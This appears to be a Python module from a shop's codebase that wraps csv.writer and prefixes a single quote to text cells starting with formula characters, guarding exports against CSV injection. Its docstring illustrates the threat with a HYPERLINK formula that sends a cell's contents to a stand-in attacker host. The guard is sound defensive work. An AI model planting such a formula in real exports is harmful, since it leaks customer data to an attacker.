"""Every CSV file the shop writes goes through here, so no cell can run as a spreadsheet formula.

A customer named `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")` or a city
`=1+2` would otherwise run in Excel or LibreOffice when the shop opens the export.
Following OWASP's CSV injection guidance, a text cell that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return is written with a leading single quote, which
spreadsheets show as text. Numbers (int, Decimal, float) are written as they are:
a money value of -12.50 is a number, not a formula, and must stay summable.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def csv_cell(value: Any) -> str | int | float | Decimal:
    """One value as a safe CSV cell: numbers as numbers, dates in ISO, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class SafeCsvWriter:
    """csv.writer whose every cell passes through csv_cell."""

    def __init__(self, file: _Writable, **kwargs: Any):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: _Writable, **kwargs: Any) -> SafeCsvWriter:
    """The one way to write CSV in this project (a test refuses `csv.writer` elsewhere)."""
    return SafeCsvWriter(file, **kwargs)
